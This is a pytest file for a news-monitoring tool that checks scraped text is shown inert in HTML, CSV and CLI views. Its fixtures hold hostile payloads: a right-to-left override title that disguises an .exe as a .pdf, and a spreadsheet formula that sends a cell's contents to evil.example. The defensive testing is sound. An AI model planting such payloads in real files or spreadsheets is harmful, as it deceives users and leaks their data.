"""Scraped text is shown inert: bidi overrides never reach HTML, CSV or the terminal; formulas are quoted.

A real Telegram post (tests/data/index/posts.jsonl) is planted twice in the fixture world: once
with a "Trojan Source" title (``... \\u202efdp.exe`` shows as ``...exe.pdf``) and an isolate in its
text, once with a spreadsheet formula as its title. An alert carries the override too. Stored text
and the JSON API keep the characters exactly (evidence); every view neutralises them.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from alerts.rules import make_alert
from core.events import DetectorEvent
from core.safe_text import BIDI_CONTROLS, csv_cell, strip_bidi
from crawlers.normalize import make_document
from narrawatch.cli import main
from narrawatch.server import create_app
from tests.api.world import NOW, POSTS, World, build_world

POST = json.loads(POSTS.read_text(encoding="utf-8").splitlines()[0])
RLO_TITLE = "Сводка: приказ\u202efdp.exe"  # renders as "Сводка: приказexe.pdf"
RLO_TEXT = "\u2067" + POST["text"] + "\u2069 \u202eоснован на реальных событиях"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
RLO_ID = "u:bidi000000000000000000000000000001"
FORMULA_ID = "u:formula000000000000000000000000001"
RAW = re.compile("[" + "".join(sorted(BIDI_CONTROLS)) + "]")


def _doc(doc_id: str, title: str, text: str, minutes: int) -> object:
    return make_document(
        source_id="evil-site",
        kind="site",
        url=f"https://evil.example/{doc_id[2:12]}\u202e/a",
        title=title,
        text=text,
        published=datetime(2024, 11, 21, 12, minutes, tzinfo=UTC),
        fetched=NOW,
        language_hint="ru",
        outlet="evil\u202e.example",
        doc_id=doc_id,
    )


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with build_world(tmp_path_factory.mktemp("bidi-world")) as w:
        w.app.pipeline.index_documents(
            [_doc(RLO_ID, RLO_TITLE, RLO_TEXT, 5), _doc(FORMULA_ID, FORMULA_TITLE, POST["text"], 6)]
        )
        event = DetectorEvent(
            detector="new_outlet",
            key="n-nuclear-threat|bidi",
            narrative_id="n-nuclear-threat",
            source_id="evil-site",
            title="New outlet: " + RLO_TITLE,
            summary=RLO_TEXT,
            window_start=NOW - timedelta(hours=1),
            window_end=NOW,
            outlets=("evil\u202e.example",),
            evidence=(),
            rule="new-outlet",
            narrative_title="Nuclear threat",
        )
        alert = make_alert(w.app.alerts_config.rule("new-outlet"), [event], NOW)
        w.app.outbox.enqueue(alert, ["webhook"])
        w.alert_ids.append(alert.id)
        yield w


@pytest.fixture(scope="module")
def client(world: World) -> Iterator[TestClient]:
    with TestClient(create_app(world.config, app=world.app), base_url="http://127.0.0.1") as c:
        yield c


@pytest.fixture(scope="module")
def web(world: World, client: TestClient) -> TestClient:
    """The same client, signed in to the web UI."""
    form = client.get("/login").text
    nonce = re.search(r'name="nonce" value="([^"]+)"', form)
    assert nonce is not None
    r = client.post(
        "/login",
        data={"token": world.tokens["read"], "nonce": nonce.group(1), "next": "/alerts"},
        follow_redirects=False,
    )
    assert r.status_code == 303 and r.headers["location"] == "/alerts"
    return client


def _auth(world: World) -> dict[str, str]:
    return {"Authorization": f"Bearer {world.tokens['read']}"}


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        (f"/documents/{RLO_ID}", "fdp.exe"),
        ("/search?q=Сводка+приказ", "fdp.exe"),  # the title words (the query needs all of them)
        (f"/trace?document_id={RLO_ID}", "evil.example"),  # the trace lists outlets
        ("/alerts", "fdp.exe"),
    ],
)
def test_html_pages_never_emit_bidi_controls(web: TestClient, path: str, shown: str) -> None:
    r = web.get(path)
    assert r.status_code == 200, r.text[:500]
    assert shown in r.text  # the scraped text is shown ...
    assert not RAW.search(r.text), path  # ... without its override (also in the JSON blocks and links)


def test_alert_page_and_links_keep_the_target_but_not_the_override(web: TestClient, world: World) -> None:
    page = web.get(f"/alerts/{world.alert_ids[-1]}").text
    assert "fdp.exe" in page and not RAW.search(page)
    doc = web.get(f"/documents/{RLO_ID}").text
    assert "%E2%80%AE/a" in doc  # the link goes where a browser would send it, percent-encoded


def test_json_api_keeps_the_evidence_exact(client: TestClient, world: World) -> None:
    doc = client.get(f"/api/v1/documents/{RLO_ID}", headers=_auth(world)).json()
    assert doc["title"] == RLO_TITLE


def test_search_and_trace_csv_quote_formulas_and_drop_bidi(client: TestClient, world: World) -> None:
    search = client.get(
        "/api/v1/search/export", params={"q": "Telegram истории кнопки", "format": "csv"}, headers=_auth(world)
    )
    trace = client.get(
        "/api/v1/trace/export", params={"document_id": FORMULA_ID, "format": "csv"}, headers=_auth(world)
    )
    for r in (search, trace):
        assert r.status_code == 200, r.text[:300]
        assert not RAW.search(r.text)
        rows = list(csv.DictReader(io.StringIO(r.text)))
        titles = {row["title"] for row in rows}
        assert "'" + FORMULA_TITLE in titles and FORMULA_TITLE not in titles, titles
        assert strip_bidi(RLO_TITLE) in titles
        for row in rows:  # no cell starts a formula
            assert all(not v.startswith(("=", "+", "@")) for v in row.values())


def test_jsonl_exports_escape_bidi_losslessly(client: TestClient, world: World) -> None:
    for path, params in (
        ("/api/v1/search/export", {"q": "Telegram истории кнопки", "format": "jsonl"}),
        ("/api/v1/trace/export", {"document_id": RLO_ID, "format": "jsonl"}),
    ):
        r = client.get(path, params=params, headers=_auth(world))
        assert r.status_code == 200 and not RAW.search(r.text) and "\\u202e" in r.text
        titles = {json.loads(line)["title"] for line in r.text.splitlines()}
        assert RLO_TITLE in titles  # parsed back: the exact stored text


def test_cli_output_shows_bidi_as_inert_escapes(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    cfg = str(world.config.root)
    alert_id = world.alert_ids[-1]
    assert main(["--config", cfg, "alerts", "list"]) == 0
    listed = capsys.readouterr().out
    assert "fdp.exe" in listed and "\\u202efdp.exe" in listed and not RAW.search(listed)
    assert main(["--config", cfg, "alerts", "show", alert_id]) == 0
    shown = capsys.readouterr().out
    assert "fdp.exe" in shown and not RAW.search(shown)
    assert main(["--config", cfg, "alerts", "show", alert_id, "--json"]) == 0
    data = capsys.readouterr().out
    assert not RAW.search(data)
    assert json.loads(data)["title"] == "New outlet: " + RLO_TITLE  # --json stays exact once parsed


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+7 (495) 123", "'+7 (495) 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u202e=1+1", "'=1+1"),
        ("Обычный заголовок", "Обычный заголовок"),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


def test_stored_text_is_untouched(world: World) -> None:
    stored = world.app.index.get(RLO_ID)
    assert stored is not None and stored.title == RLO_TITLE and "\u2067" in stored.text
    assert Path(world.config.root).is_dir()
